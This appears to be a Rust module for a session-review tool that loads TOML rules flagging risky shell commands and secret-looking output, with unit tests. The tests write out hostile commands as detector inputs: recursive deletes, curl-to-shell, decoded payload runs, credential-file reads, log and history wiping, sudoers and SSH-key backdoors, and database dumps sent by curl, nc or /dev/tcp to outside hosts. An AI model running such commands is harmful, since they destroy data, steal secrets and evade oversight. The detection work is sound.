//! Review rules are data: TOML, the built-in set in `assets/rules.toml`, a user's file on top.
//!
//! A rule has a name, a level, a one-line reason and one match: a regular expression over
//! each command as executed (`command`), over each line of output shown (`output`), or keys
//! typed without echo (`hidden = true`); `unless` cancels a match. A user file adds rules
//! (new names), overrides the fields it gives of a built-in rule (same name), or switches one
//! off (`enabled = false`).

use crate::error::{Error, LoadError, Place};
use regex::Regex;
use serde::Deserialize;

/// The built-in rules.
pub const BUILTIN: &str = include_str!("../../assets/rules.toml");

/// How much a finding matters.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Level {
    Low,
    Medium,
    High,
}

impl Level {
    pub fn as_str(self) -> &'static str {
        match self {
            Level::Low => "low",
            Level::Medium => "medium",
            Level::High => "high",
        }
    }
}

/// A level that is none of `high`, `medium`, `low` (the text given).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InvalidLevel(pub String);

impl std::fmt::Display for InvalidLevel {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "invalid level '{}': use high, medium or low", self.0)
    }
}

impl std::error::Error for InvalidLevel {}

impl std::str::FromStr for Level {
    type Err = InvalidLevel;
    fn from_str(s: &str) -> Result<Self, InvalidLevel> {
        match s {
            "low" => Ok(Level::Low),
            "medium" => Ok(Level::Medium),
            "high" => Ok(Level::High),
            _ => Err(InvalidLevel(s.to_string())),
        }
    }
}

/// What a rule looks at.
#[derive(Debug, Clone)]
pub enum Matcher {
    Command(Regex),
    Output(Regex),
    Hidden,
}

#[derive(Debug, Clone)]
pub struct Rule {
    pub name: String,
    pub level: Level,
    pub reason: String,
    pub matcher: Matcher,
    pub unless: Option<Regex>,
    /// Whether what the rule matches is a secret, masked by `--redact` (the named group
    /// `secret` when the regex has one, else the whole match).
    pub secret: bool,
    /// For a secret that spans lines (a private key block): where it ends.
    pub until: Option<Regex>,
}

impl Rule {
    /// The part of `text` that makes the rule match, if it does.
    pub fn find<'t>(&self, text: &'t str) -> Option<&'t str> {
        let re = match &self.matcher {
            Matcher::Command(re) | Matcher::Output(re) => re,
            Matcher::Hidden => return None,
        };
        let m = re.find(text)?;
        if self.unless.as_ref().is_some_and(|u| u.is_match(text)) {
            return None;
        }
        Some(m.as_str())
    }
}

/// A rule as written in a file: every field optional, so that a user's rule may override
/// only some fields of a built-in one.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleDef {
    name: String,
    level: Option<Level>,
    reason: Option<String>,
    command: Option<String>,
    output: Option<String>,
    hidden: Option<bool>,
    unless: Option<String>,
    enabled: Option<bool>,
    secret: Option<bool>,
    until: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleFile {
    #[serde(default)]
    rule: Vec<RuleDef>,
}

impl RuleDef {
    /// Take the fields `over` gives.
    fn overlay(&mut self, over: RuleDef) {
        let matcher_given =
            over.command.is_some() || over.output.is_some() || over.hidden.is_some();
        if matcher_given {
            self.command = over.command;
            self.output = over.output;
            self.hidden = over.hidden;
        }
        if over.level.is_some() {
            self.level = over.level;
        }
        if over.reason.is_some() {
            self.reason = over.reason;
        }
        if over.unless.is_some() {
            self.unless = over.unless;
        }
        if over.enabled.is_some() {
            self.enabled = over.enabled;
        }
        if over.secret.is_some() {
            self.secret = over.secret;
        }
        if over.until.is_some() {
            self.until = over.until;
        }
    }
}

/// A rule set, in the order the rules were first defined.
#[derive(Debug, Clone)]
pub struct Rules {
    pub rules: Vec<Rule>,
}

/// Line and column (1-based) of a byte offset.
fn line_col(text: &str, at: usize) -> (usize, usize) {
    let before = &text[..at.min(text.len())];
    let line = before.matches('\n').count() + 1;
    let col = before.rsplit('\n').next().map_or(0, |l| l.chars().count()) + 1;
    (line, col)
}

fn parse(file: &str, text: &str) -> Result<Vec<RuleDef>, Error> {
    let parsed: RuleFile = toml::from_str(text).map_err(|e| {
        let place = e
            .span()
            .map(|s| {
                let (l, c) = line_col(text, s.start);
                Place::LineCol(l, c)
            })
            .unwrap_or(Place::Whole);
        let what = e
            .message()
            .lines()
            .next()
            .unwrap_or("invalid TOML")
            .to_string();
        Error::Load(LoadError::new(file, place, what))
    })?;
    Ok(parsed.rule)
}

/// A regex error in one line (the crate's are several lines, with a caret drawing).
fn regex_error(e: &regex::Error) -> String {
    let s = e.to_string();
    s.lines()
        .rev()
        .find_map(|l| l.trim().strip_prefix("error: ").map(str::to_string))
        .unwrap_or_else(|| s.lines().next().unwrap_or("invalid").to_string())
}

fn compile(file: &str, def: RuleDef) -> Result<Option<Rule>, Error> {
    if def.enabled == Some(false) {
        return Ok(None);
    }
    let bad = |what: String| {
        Error::Load(LoadError::new(
            file,
            Place::Whole,
            format!("rule '{}': {what}", def.name),
        ))
    };
    let re = |what: &str, s: &str| {
        Regex::new(s).map_err(|e| bad(format!("invalid {what} regex: {}", regex_error(&e))))
    };
    let level = def
        .level
        .ok_or_else(|| bad("no level (high, medium or low)".into()))?;
    let reason = def
        .reason
        .clone()
        .filter(|r| !r.trim().is_empty())
        .ok_or_else(|| bad("no reason".into()))?;
    let matcher = match (&def.command, &def.output, def.hidden.unwrap_or(false)) {
        (Some(c), None, false) => Matcher::Command(re("command", c)?),
        (None, Some(o), false) => Matcher::Output(re("output", o)?),
        (None, None, true) => Matcher::Hidden,
        (None, None, false) => return Err(bad("no match: give command, output or hidden".into())),
        _ => return Err(bad("give only one of command, output and hidden".into())),
    };
    let unless = match &def.unless {
        Some(u) => Some(re("unless", u)?),
        None => None,
    };
    let until = match &def.until {
        Some(u) => Some(re("until", u)?),
        None => None,
    };
    Ok(Some(Rule {
        name: def.name,
        level,
        reason: reason.trim().to_string(),
        matcher,
        unless,
        secret: def.secret.unwrap_or(false),
        until,
    }))
}

impl Rules {
    /// The built-in rules, with a user's file (its name and text) on top.
    pub fn load(user: Option<(&str, &str)>) -> Result<Rules, Error> {
        const OURS: &str = "assets/rules.toml";
        // each rule with the file that last gave it fields, for errors
        let mut defs: Vec<(RuleDef, &str)> = parse(OURS, BUILTIN)?
            .into_iter()
            .map(|d| (d, OURS))
            .collect();
        if let Some((file, text)) = user {
            for over in parse(file, text)? {
                if over.name.trim().is_empty() {
                    return Err(Error::Load(LoadError::new(
                        file,
                        Place::Whole,
                        "a rule with no name",
                    )));
                }
                match defs.iter_mut().find(|(d, _)| d.name == over.name) {
                    Some((d, from)) => {
                        d.overlay(over);
                        *from = file;
                    }
                    None => defs.push((over, file)),
                }
            }
        }
        let mut rules = Vec::new();
        for (def, file) in defs {
            if let Some(r) = compile(file, def)? {
                rules.push(r);
            }
        }
        Ok(Rules { rules })
    }

    /// The built-in rules alone.
    pub fn builtin() -> Rules {
        // the built-in file is tested to load
        Rules::load(None).unwrap_or(Rules { rules: Vec::new() })
    }

    pub fn get(&self, name: &str) -> Option<&Rule> {
        self.rules.iter().find(|r| r.name == name)
    }

    /// The rules that match a command, with what matched.
    pub fn on_command<'a, 't>(&'a self, cmd: &'t str) -> Vec<(&'a Rule, &'t str)> {
        self.rules
            .iter()
            .filter(|r| matches!(r.matcher, Matcher::Command(_)))
            .filter_map(|r| r.find(cmd).map(|m| (r, m)))
            .collect()
    }

    /// The rules that match a line of output, with what matched.
    pub fn on_output<'a, 't>(&'a self, line: &'t str) -> Vec<(&'a Rule, &'t str)> {
        self.rules
            .iter()
            .filter(|r| matches!(r.matcher, Matcher::Output(_)))
            .filter_map(|r| r.find(line).map(|m| (r, m)))
            .collect()
    }

    /// The rule that reports hidden input, if any is on.
    pub fn on_hidden(&self) -> Option<&Rule> {
        self.rules
            .iter()
            .find(|r| matches!(r.matcher, Matcher::Hidden))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(rules: &Rules, cmd: &str) -> Vec<String> {
        rules
            .on_command(cmd)
            .into_iter()
            .map(|(r, _)| r.name.clone())
            .collect()
    }

    fn out_hits(rules: &Rules, line: &str) -> Vec<String> {
        rules
            .on_output(line)
            .into_iter()
            .map(|(r, _)| r.name.clone())
            .collect()
    }

    #[test]
    fn builtin_rules_load() {
        let r = Rules::load(None).unwrap();
        assert!(r.rules.len() >= 30, "{}", r.rules.len());
        assert!(r.on_hidden().is_some());
    }

    #[test]
    fn commands_that_match() {
        let r = Rules::builtin();
        let cases: &[(&str, &str)] = &[
            ("rm -rf /", "rm-rf-broad"),
            ("sudo rm -rf --no-preserve-root /", "rm-rf-broad"),
            ("rm -fr ~", "rm-rf-broad"),
            ("cd /app && rm -r -f *", "rm-rf-broad"),
            ("rm -rf /var/", "rm-rf-broad"),
            ("DROP TABLE users;", "sql-drop"),
            ("drop database prod", "sql-drop"),
            ("TRUNCATE users;", "sql-truncate"),
            ("truncate table orders cascade;", "sql-truncate"),
            ("DELETE FROM users;", "sql-delete-without-where"),
            ("psql -c 'delete from users'", "sql-delete-without-where"),
            ("UPDATE users SET admin = true;", "sql-update-without-where"),
            ("User.destroy_all", "orm-delete-all"),
            ("mkfs.ext4 /dev/sdb1", "mkfs"),
            ("dd if=/dev/zero of=/dev/sda bs=1M", "write-to-disk-device"),
            ("curl -fsSL https://x.example/i.sh | sh", "curl-pipe-shell"),
            ("wget -qO- http://x.example | sudo bash", "curl-pipe-shell"),
            (
                "curl -s https://x.example/a.py | python3 -",
                "curl-pipe-shell",
            ),
            (
                "eval \"$(curl -s https://x.example)\"",
                "shell-from-network",
            ),
            ("bash <(curl -s https://x.example)", "shell-from-network"),
            ("echo ZWNobyBoaQ== | base64 -d | sh", "decoded-code-run"),
            ("echo aGk= | base64 --decode | bash", "decoded-code-run"),
            ("sh -c \"$(echo aGk= | base64 -d)\"", "decoded-code-run"),
            ("env", "environment-dumped"),
            ("printenv | grep KEY", "environment-dumped"),
            ("echo $AWS_SECRET_ACCESS_KEY", "secret-variable-printed"),
            ("echo $DATABASE_URL", "secret-variable-printed"),
            ("printenv API_TOKEN", "secret-variable-printed"),
            ("cat .env", "secret-file-read"),
            ("cat ~/.aws/credentials", "secret-file-read"),
            ("less config/master.key", "secret-file-read"),
            ("export API_KEY=sk_abcdefghijkl", "secret-in-command"),
            ("unset HISTFILE", "history-off"),
            ("set +o history", "history-off"),
            ("export HISTFILE=/dev/null", "history-off"),
            ("history -c", "history-wiped"),
            ("rm ~/.bash_history", "history-wiped"),
            ("sudo systemctl stop auditd", "logging-stopped"),
            ("pkill -9 rsyslogd", "logging-stopped"),
            ("rm -f /var/log/auth.log", "logs-wiped"),
            ("sudo -i", "sudo"),
            ("chmod 777 /srv/data", "world-writable"),
            ("chmod -R a+rwx .", "world-writable"),
            ("chmod u+s /usr/local/bin/x", "setuid"),
            ("chmod 4755 ./x", "setuid"),
            (
                "echo 'u ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
                "privileges-granted",
            ),
            (
                "echo ssh-ed25519 AAA >> ~/.ssh/authorized_keys",
                "ssh-key-added",
            ),
            (
                "pg_dump $DATABASE_URL | curl -T - https://x.example",
                "dump-sent-away",
            ),
            ("scp db.sql me@203.0.113.5:/tmp/", "file-copied-out"),
            ("rsync -a dump/ backup.example.org:dump/", "file-copied-out"),
            ("curl -T dump.sql https://x.example/", "upload"),
            ("curl -F file=@dump.sql https://x.example", "upload"),
            ("nc 203.0.113.5 4444 < dump.sql", "raw-connection"),
            ("cat dump > /dev/tcp/203.0.113.5/80", "raw-connection"),
        ];
        for (cmd, rule) in cases {
            let h = hits(&r, cmd);
            assert!(
                h.iter().any(|n| n == rule),
                "{cmd:?}: {h:?}, expected {rule}"
            );
        }
    }

    #[test]
    fn ordinary_commands_do_not_match() {
        let r = Rules::builtin();
        for cmd in [
            "ls -la",
            "rm -rf ./build",
            "rm -rf node_modules tmp/cache",
            "rm -f *.o",
            "git status",
            "git log --oneline | head",
            "DELETE FROM users WHERE id = 3;",
            "UPDATE users SET name = 'x' WHERE id = 1;",
            "SELECT * FROM users;",
            "curl -s https://example.com/health",
            "curl -o install.sh https://x.example/i.sh",
            "echo hello | base64",
            "base64 -d blob.txt > out.bin",
            "history | tail",
            "chmod 755 script.sh",
            "chmod +x run.sh",
            "chmod 644 notes.txt",
            "cat README.md",
            "vim src/main.rs",
            "echo $HOME",
            "printf 'a\\tb\\n'",
            "environment=prod ./run",
            "scp -h",
            "rsync -a src/ dst/",
            "less /var/log/syslog",
            "tail -f /var/log/app.log",
            "grep -r TODO .",
            "dd if=/dev/zero of=disk.img bs=1M count=10",
            "for i in 1 2; do echo $i; done",
            "truncate -s 0 app.log",
            "python3 manage.py shell",
            "echo done",
        ] {
            assert_eq!(hits(&r, cmd), Vec::<String>::new(), "{cmd:?}");
        }
    }

    #[test]
    fn output_that_looks_like_a_secret() {
        let r = Rules::builtin();
        let cases: &[(&str, &str)] = &[
            ("AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE", "cloud-access-key"),
            (
                "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
                "cloud-secret-key",
            ),
            ("-----BEGIN OPENSSH PRIVATE KEY-----", "private-key-block"),
            ("-----BEGIN RSA PRIVATE KEY-----", "private-key-block"),
            (
                "token: eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
                "jwt",
            ),
            (
                "DATABASE_URL=postgres://app:s3cr3tpw@db.example:5432/app",
                "url-with-password",
            ),
            ("STRIPE_SECRET=sk_test_abcdefghijklmnop", "secret-assignment-shown"),
            ("password: hunter2hunter2", "secret-assignment-shown"),
            (
                "GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789",
                "api-token",
            ),
        ];
        for (line, rule) in cases {
            let h = out_hits(&r, line);
            assert!(
                h.iter().any(|n| n == rule),
                "{line:?}: {h:?}, expected {rule}"
            );
        }
        for line in [
            "Password: ",
            "[sudo] password for alice:",
            "total 48",
            "-rw-r--r-- 1 root root  5106 Dec  1 23:05 shell-basics.json",
            "https://example.com/docs?page=2",
            "git@github.com:org/repo.git",
            "--token TOKEN   the API token",
            "-----BEGIN PUBLIC KEY-----",
            "HOME=/root",
        ] {
            assert_eq!(out_hits(&r, line), Vec::<String>::new(), "{line:?}");
        }
    }

    #[test]
    fn a_user_file_adds_overrides_and_switches_off() {
        let user = r#"
[[rule]]
name = "sudo"
level = "high"

[[rule]]
name = "history-wiped"
enabled = false

[[rule]]
name = "kubectl-delete"
level = "medium"
reason = "deletes Kubernetes objects"
command = '\bkubectl\s+delete\b'
"#;
        let r = Rules::load(Some(("mine.toml", user))).unwrap();
        let sudo = r.get("sudo").unwrap();
        assert_eq!(sudo.level, Level::High);
        assert_eq!(sudo.reason, Rules::builtin().get("sudo").unwrap().reason);
        assert!(r.get("history-wiped").is_none());
        assert!(hits(&r, "history -c").is_empty());
        assert_eq!(hits(&r, "kubectl delete pod x"), ["kubectl-delete"]);
        assert_eq!(r.rules.len(), Rules::builtin().rules.len());

        // overriding the match replaces it
        let r = Rules::load(Some((
            "m.toml",
            "[[rule]]\nname = \"sudo\"\ncommand = '^doas\\b'\n",
        )))
        .unwrap();
        assert_eq!(hits(&r, "doas ls"), ["sudo"]);
        assert!(hits(&r, "sudo ls").is_empty());
        // hidden input can be switched off too
        let r = Rules::load(Some((
            "m.toml",
            "[[rule]]\nname = \"hidden-input\"\nenabled = false\n",
        )))
        .unwrap();
        assert!(r.on_hidden().is_none());
    }

    #[test]
    fn bad_user_files_get_one_line_errors() {
        for (text, want) in [
            ("[[rule]\nname = 1", "m.toml: 1:"),
            ("[[rule]]\nname = \"x\"\nlevel = \"severe\"\n", "m.toml: 3:"),
            ("[[rule]]\nname = \"x\"\nlevle = \"high\"\n", "m.toml: 3:"),
            (
                "[[rule]]\nname = \"x\"\nlevel = \"high\"\nreason = \"r\"\ncommand = 'a('\n",
                "m.toml: rule 'x': invalid command regex",
            ),
            (
                "[[rule]]\nname = \"x\"\nlevel = \"high\"\nreason = \"r\"\n",
                "m.toml: rule 'x': no match",
            ),
            (
                "[[rule]]\nname = \"x\"\nreason = \"r\"\noutput = 'a'\n",
                "m.toml: rule 'x': no level",
            ),
            (
                "[[rule]]\nname = \"x\"\nlevel = \"low\"\nreason = \"r\"\noutput = 'a'\ncommand = 'b'\n",
                "only one of",
            ),
        ] {
            let e = Rules::load(Some(("m.toml", text))).unwrap_err().to_string();
            assert!(e.contains(want), "{text:?}: {e}");
            assert_eq!(e.lines().count(), 1, "{e}");
        }
    }
}
